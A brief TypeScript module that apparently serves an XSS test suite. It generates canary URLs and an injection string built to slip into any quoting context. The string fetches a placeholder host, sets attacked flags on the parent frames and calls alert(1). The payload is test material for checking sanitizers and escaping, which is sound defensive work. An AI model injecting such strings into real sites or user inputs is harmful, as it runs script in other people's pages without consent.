/** Every name leads to the canary. */
const host = 'canary.test';

/** @param number of the attack, which the canary hears */
export function urlOf(number: number): string {
  return `http://${host}/${number}`;
}

/** Without quotes, white space and brackets, so that it fits into any of them. */
export function scriptOf(number: number): string {
  return `fetch(\`http://${host}/${number}/ran\`),top.attacked=1,parent.document.title=\`attacked\`,alert(1)`;
}
